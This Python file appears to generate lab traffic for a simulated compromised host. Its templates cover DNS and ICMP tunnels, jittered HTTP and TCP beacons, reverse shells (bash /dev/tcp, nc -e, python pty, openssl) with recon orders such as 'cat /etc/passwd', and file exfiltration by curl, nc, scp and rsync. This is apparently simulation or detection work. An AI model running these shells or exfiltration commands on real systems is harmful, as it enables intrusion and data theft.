"""What a taken inside host does: tunnels, masters, shells, uploads; each with what people set at it. The peer is drawn: a public address, a private one of another network, or a neighbour."""

TYPES = ("A", "TXT", "TXT", "CNAME", "MX", "AAAA", "NULL", "SRV")


def iodine(s):
    s.six = False; m = s.outer(); s.victim = m
    options = f"{s.option(.6, '-T <>', 'null', 'txt', 'srv', 'mx', 'cname', 'a', 'private')} {s.option(.3, '-O <>', 'base32', 'base64', 'base128', 'raw')} {s.option(.3, '-m <>', 100, 200, 500, 1000)} {s.option(.3, '-M <>', 60, 100, 200)} {s.maybe(.7, '-r')} {s.maybe(.2, '-L 0')}"
    use = s.one(f"ping -q -i {s.one(0.2, 0.5, 1)} -s {s.one(56, 300, 1000)} 10.99.0.1", "sleep 30", f"while :; do curl -s -m 8 -o /dev/null http://10.99.0.1/; sleep {s.one(0.3, 2)}; done")
    s.aside = ("peer", "exec iodined -f -c -P secret 10.99.0.1 t.tunnel.example")
    words = f"iodine {options} then {use.partition(' http')[0]}"
    return words, 40, f"iodine -f -P secret {options} {m} t.tunnel.example & sleep 9; timeout 22 bash -c '{use}'; kill %1"


def dns2tcp(s):
    s.six = False; m = s.outer(); s.victim = m; size = s.one(200, 3000, 30000)
    s.before = "printf 'listen = 0.0.0.0\\nport = 53\\nuser = nobody\\nchroot = /tmp\\ndomain = d.tunnel.example\\nresources = web:127.0.0.1:8099\\n' >$LAB_DIR/dns2tcpd.conf; "
    s.aside = ("peer", f"python3 \"$LAB_HOME/drawn/serve.py\" 8099 plain {size} {size} 1 & exec dns2tcpd -F -f $LAB_DIR/dns2tcpd.conf")
    pause = s.one(0.5, 2, 5)
    words = f"dns2tcpc {s.one('', '-T TXT', '-T KEY')} pages of {size} each {pause} s"
    return words, 40, f"{words.split(' pages')[0]} -r web -z d.tunnel.example -l 8888 {m} & sleep 2; timeout 25 bash -c 'while :; do curl -s -m 8 -o /dev/null http://127.0.0.1:8888/; sleep {pause}; done'; kill %1"


def dig(s):
    """Data in names, asked of an outside name server, or of one whose master answers."""
    s.six = False; m = s.outer(); s.victim = m
    kind, code, width, pause = s.one(*TYPES), s.one("xxd -p -c", "base32 -w", "base64 -w"), s.one(16, 24, 30, 31, 40, 60), s.one(0, 0.1, 0.3, 0.5, 1)
    bytes_ = s.between(1500, 8000) if pause < 0.3 else round(55 / (pause + 0.05)) * width // (2 if "xxd" not in code else 1)
    if "xxd" in code:
        width = min(width, 31)
    s.aside = ("peer", "exec dnsmasq --keep-in-foreground --no-resolv --no-hosts --conf-file=/dev/null --pid-file= --user=root --no-daemon --local=/example/ --address=/a.leak.example/192.0.2.7 --bind-interfaces --except-interface=lo")
    tool = s.one(f"dig +tries=1 +time=1 @{m} $l.x.leak.example {kind}", f"nslookup -timeout=1 -retry=0 -type={kind} $l.x.leak.example {m}", f"host -W 1 -R 1 -t {kind} $l.x.leak.example {m}")
    words = f"{tool.split()[0]} {kind} {code.split()[0]} {width} of {bytes_} bytes pause {pause}"
    return words, 60, f"head -c {bytes_} /dev/urandom | {code} {width} | tr '+/=' '-_0' | while read -r l; do {tool}; sleep {pause}; done"


def dnscat(s):
    s.six = False; m = s.outer(); s.victim = m
    kinds, pause, size = s.one("TXT", "CNAME", "MX", "TXT,CNAME,MX"), s.one(0.1, 0.5, 1, 1.5), s.one(9, 20, 60)
    s.aside = ("peer", "exec python3 \"$LAB_HOME/drawn/poll.py\" serve 53")
    words = f"dnscat2-like polling {kinds} {pause} s {size} bytes"
    return words, 45, f"exec python3 \"$LAB_HOME/drawn/poll.py\" ask {m} {kinds} {pause} {size}"


def icmp(s):
    s.six = False; m = s.outer(); s.victim = m
    way = s.one("ptunnel-ng", "ping", "leak")
    if way == "ptunnel-ng":
        s.aside = ("peer", "python3 \"$LAB_HOME/drawn/serve.py\" 8099 plain 4000 4000 1 & exec ptunnel-ng -R8099 -r127.0.0.1")
        pause = s.one(0.5, 2)
        return f"ptunnel-ng pages of 4000 each {pause} s", 35, f"ptunnel-ng -p{m} -l2222 -r127.0.0.1 -R8099 & sleep 2; timeout 25 bash -c 'while :; do curl -s -m 8 -o /dev/null http://127.0.0.1:2222/; sleep {pause}; done'; kill %1"
    pause = s.one(0.05, 0.2, 0.5, 1)
    if way == "ping":
        return f"ping -p data a packet each {pause} s", 45, f"head -c 4000 /dev/urandom | xxd -p -c 16 | while read -r h; do ping -q -c 1 -W 1 -s {s.one(32, 56, 200)} -p $h {m} >/dev/null; sleep {pause}; done"
    return f"python ICMP data 40 to 1000 bytes each {pause} s", 40, f"python3 \"$LAB_HOME/tools/icmp_leak.py\" {m} {min(150, round(35 / pause))} {pause}"


TUNNELS = {"iodine": (iodine, 3), "dns2tcp": (dns2tcp, 2), "names": (dig, 3), "dnscat": (dnscat, 2), "icmp": (icmp, 2)}


def pause(period, jitter):
    return f"sleep $(awk -v r=$RANDOM 'BEGIN {{ printf \"%.2f\", {period} * (1 + {jitter} / 100 * (r / 16384 - 1)) }}')"


def pages(s):
    m = s.outer(); s.victim = m; u = s.url(m)
    tls, period, jitter = s.r.random() < 0.4, s.between(2, 8, 1), s.one(0, 0, 10, 20, 30, 50)
    port, small, large, every = (s.one(443, 8443, 4443), s.one(2, 16, 60, 200), s.one(300, 2000, 8000), s.one(3, 6, 10)) if tls else (s.one(80, 8080, 8000, 4444, 1337), s.one(2, 16, 60, 200), s.one(300, 2000, 8000), s.one(3, 6, 10))
    s.aside = ("peer", f"exec python3 \"$LAB_HOME/drawn/serve.py\" {port} {'tls' if tls else 'plain'} {small} {large} {every}")
    base = f"{'https' if tls else 'http'}://{u}:{port}"
    agent = s.one("", "", "-A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36'", "-A 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)'")
    way = s.one(f"curl -sk -m 8 -o /dev/null {agent} {base}/{s.one('', 'beacon', 'api/v1/status', 'news.php', 'jquery-3.3.1.min.js', 'index.html')}", f"curl -sk -m 8 -o /dev/null {agent} -d \"id=7f3a&h=$(hostname)&n=$RANDOM\" {base}/{s.one('gate.php', 'submit', 'api/checkin')}",
                f"curl -sk -m 8 -o /dev/null {agent} -H 'Content-Type: application/json' -d '{{\"uuid\":\"5f1c-77ab\",\"result\":\"\"}}' {base}/api/tasks", f"curl -sk -m 8 -o /dev/null {agent} -H \"Cookie: SESSIONID=$(head -c 96 /dev/urandom | base64 -w 0)\" {base}/{s.one('load', 'pixel.gif', 'cm')}",
                f"wget -q -T 8 -t 1 --no-check-certificate -O /dev/null {base}/{s.one('cmd', 'task')}", f"python3 -c 'import urllib.request as q,ssl;q.urlopen(\"{base}/poll\",context=ssl._create_unverified_context()).read()'")
    words = f"{way.split(' http')[0]} {base} each {period} s jitter {jitter} % answers {small}/{large}"
    return words, round(min(110, max(45, period * 16))), f"while :; do {way}; {pause(period, jitter)}; done"


def lines(s):
    m = s.outer(); s.victim = m; period, jitter, port, size = s.between(2, 7, 1), s.one(0, 10, 30, 50), s.one(4444, 443, 53, 8080, 1337, 31337, 9001), s.one(12, 60, 200)
    kind = s.one("again", "kept", "udp", "tls")
    if port == 443 and kind == "again":
        port = 8443
    note = f"head -c {size * 3 // 4} /dev/urandom | base64 -w 0"
    six = "6" if s.six else "4"
    if kind == "udp":
        port = 5353 if port == 53 else port + 1
        s.aside = ("peer", f"exec python3 \"$LAB_HOME/drawn/serve.py\" {port} udp 2 40 5")
        way = s.one(f"{note} | nc -{six} -u -w 1 {m} {port} >/dev/null", f"{note} >/dev/udp/{m}/{port}", f"{note} | socat -t 1 - UDP{six}:{s.url(m)}:{port} >/dev/null")
    elif kind == "tls":
        port = 8444
        s.aside = ("peer", f"exec python3 \"$LAB_HOME/drawn/serve.py\" {port} line-tls 3 60 5")
        way = f"({note}; echo; sleep 0.5) | openssl s_client -quiet -connect {s.url(m)}:{port} >/dev/null 2>&1"
    elif kind == "again":
        port = port + 1 if port in (443, 53) else port
        s.aside = ("peer", f"exec python3 \"$LAB_HOME/drawn/serve.py\" {port} line 3 60 5")
        way = s.one(f"({note}; echo) | nc -w 2 {m} {port} >/dev/null", f"(exec 3<>/dev/tcp/{m}/{port}; ({note}; echo) >&3; timeout 2 head -n 1 <&3 >/dev/null)")
    else:
        port = port + 1 if port in (443, 53) else port
        s.aside = ("peer", f"exec python3 \"$LAB_HOME/drawn/serve.py\" {port} line 3 60 5")
        way = f"{note}; echo"
        words = f"kept connection to {port} a line of {size} each {period} s jitter {jitter} %"
        return words, round(min(110, max(45, period * 16))), f"exec 3<>/dev/tcp/{m}/{port}; cat <&3 >/dev/null & while :; do ({way}) >&3; {pause(period, jitter)}; done"
    words = f"{next((tool for tool in ('openssl', 'socat', 'nc') if tool + ' ' in way), 'bash')} {kind} {port} a line of {size} each {period} s jitter {jitter} %"
    return words, round(min(110, max(45, period * 16))), f"while :; do {way}; {pause(period, jitter)}; done"


def shell(s):
    m = s.outer(); s.victim = m; u = s.url(m)
    port, between, n = s.one(4444, 4445, 9001, 8081, 1234, 31337, 53, 8082), s.one(1, 2, 3, 5), s.one(6, 10, 14)
    six = "-6" if s.six else ""
    py = f"socket.socket(socket.AF_INET{'6' if s.six else ''})"
    pty = s.one("EXEC:'bash -li',pty,stderr,setsid,sigint,sane", "EXEC:sh")
    run = s.one('subprocess.call(["/bin/sh","-i"])', 'import pty;pty.spawn("/bin/bash")')
    shells = {
        "bash": f"bash -c 'bash -i >& /dev/tcp/{m}/{port} 0>&1'", "fifo": f"rm -f $LAB_DIR/f; mkfifo $LAB_DIR/f; cat $LAB_DIR/f | sh -i 2>&1 | nc {m} {port} >$LAB_DIR/f", "nc -e": f"nc.traditional -e /bin/{s.one('sh', 'bash')} {m} {port}", "ncat": f"ncat {m} {port} -e /bin/bash",
        "socat": f"socat TCP:{u}:{port} {pty}", "python": f"python3 -c 'import socket,subprocess,os;s={py};s.connect((\"{m}\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];{run}'",
        "perl": f"perl -e 'use IO::Socket::IP;$c=IO::Socket::IP->new(PeerAddr=>\"{m}\",PeerPort=>{port});STDIN->fdopen($c,\"r\");STDOUT->fdopen($c,\"w\");STDERR->fdopen($c,\"w\");exec \"/bin/sh -i\";'", "openssl": f"mkfifo $LAB_DIR/g$$; /bin/sh -i <$LAB_DIR/g$$ 2>&1 | openssl s_client -quiet -connect {u}:{port} >$LAB_DIR/g$$ 2>/dev/null",
        "ncat --ssl": f"ncat --ssl {m} {port} -e /bin/sh"}
    name = s.one(*(k for k in shells if not (s.six and k == "nc -e")))
    orders = ["id", "uname -a", "ls -la /etc | head -30", "cat /etc/passwd", "ps aux | head -20", "ip address", "hostname", "df -h", "env", "ls /usr/bin | head -50", "whoami", "cat /etc/hosts", "pwd", "netstat -an | head"]
    s.r.shuffle(orders)
    typed = "; ".join(f"echo {o!r}; sleep {between}" for o in orders[:n])
    listener = {"openssl": f"openssl s_server -quiet {six or '-4'} -accept {port} -cert $LAB_DIR/c2.crt -key $LAB_DIR/c2.key", "ncat --ssl": f"ncat --ssl -l -p {port}"}.get(name, s.one(f"nc.openbsd {six} -n -l -p {port}", f"ncat -l -p {port}"))
    s.aside = ("peer", f"{{ sleep 3; {typed}; echo exit; }} | {listener}")
    words = f"{name} shell to {port}, {n} orders each {between} s"
    return words, min(70, n * between + 10), shells[name]


MASTERS = {"pages": (pages, 5), "lines": (lines, 4), "shell": (shell, 5)}


def upload(s):
    m = s.outer(); u = s.url(m); s.victim = m; s.length = 400
    mega, port = s.between(3, 60), s.one(4444, 9001, 8443, 443 + 8000, 2020)
    rate = s.option(0.3, '<>k', 300, 800, 2000)
    if rate:
        mega = min(mega, max(3, int(rate[:-1]) * 35 // 1000))
    s.before = f"head -c {mega}000000 /dev/urandom >$LAB_DIR/secret; chmod a+r $LAB_DIR/secret; "
    f, lim = "$LAB_DIR/secret", f"--limit-rate {rate}" if rate else ""
    take = f"exec socat -u TCP6-LISTEN:{port},ipv6only=0,fork,reuseaddr /dev/null"
    web, webs = f"exec python3 \"$LAB_HOME/drawn/serve.py\" {port} plain 2 2 1", f"exec python3 \"$LAB_HOME/drawn/serve.py\" {port} tls 2 2 1"
    ssh = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i $LAB_DIR/user"
    ways = {
        "curl -T": (f"curl -s {lim} -T {f} http://{u}:{port}/", web), "curl -F": (f"curl -sk {lim} -F file=@{f} https://{u}:{port}/upload", webs), "curl -d": (f"curl -s {lim} -H Expect: --data-binary @{f} http://{u}:{port}/u", web), "curl -T tls": (f"curl -sk {lim} -T {f} https://{u}:{port}/", webs),
        "wget": (f"wget -q -O /dev/null --post-file={f} http://{u}:{port}/up", web), "ftp": (f"curl -s {lim} -T {f} ftp://{u}/up/a$RANDOM.bin", None), "nc": (f"nc -N {m} {port} <{f}", take), "bash": (f"cat {f} >/dev/tcp/{m}/{port}", take),
        "tar": (f"tar cz -C $LAB_DIR secret | nc -N {m} {port}", take), "socat": (f"socat -u FILE:{f} TCP:{u}:{port}", take), "ncat --ssl": (f"ncat --ssl --send-only {m} {port} <{f}", f"exec ncat --ssl -k -l -p {port} -o /dev/null >/dev/null"),
        "scp": (f"scp -q {rate and '-l %d' % (int(rate[:-1]) * 8)} {ssh} {f} root@{u}:/dev/null", None), "ssh": (f"ssh {ssh} root@{m} 'cat >/dev/null' <{f}", None), "rsync": (f"rsync {rate and '--bwlimit=' + rate[:-1]} {f} rsync://{u}:{port}/up/a$RANDOM", f"printf 'use chroot=no\\n[up]\\npath=$LAB_DIR/drop/up\\nread only=no\\nuid=0\\ngid=0\\n' >$LAB_DIR/rsyncd.conf; exec rsync --daemon --no-detach --port={port} --config=$LAB_DIR/rsyncd.conf"),
        "openssl": (f"(cat {f}; sleep 1) | openssl s_client -quiet -connect {u}:{port} >/dev/null 2>&1", f"exec openssl s_server -quiet {'-6' if s.six else '-4'} -accept {port} -cert $LAB_DIR/c2.crt -key $LAB_DIR/c2.key >/dev/null"),
        "parts": (f"split -b {s.one(200, 500, 1000)}K {f} $LAB_DIR/part-; for p in $LAB_DIR/part-*; do curl -s --data-binary @$p -o /dev/null http://{u}:{port}/p; sleep {s.one(0, 0.3, 1)}; done; rm $LAB_DIR/part-*", web)}
    if s.place == "near" or s.six:
        ways.pop("ftp")
    if s.place == "near":
        ways.pop("scp"); ways.pop("ssh")
    name = s.one(*ways)
    script, aside = ways[name]
    s.aside = aside and ("peer", aside)
    words = f"{name} of {mega} MB {rate and 'at ' + rate} {'' if aside is None else 'to port %d' % port}"
    return words, 60, script


UPLOADS = {"upload": (upload, 1)}
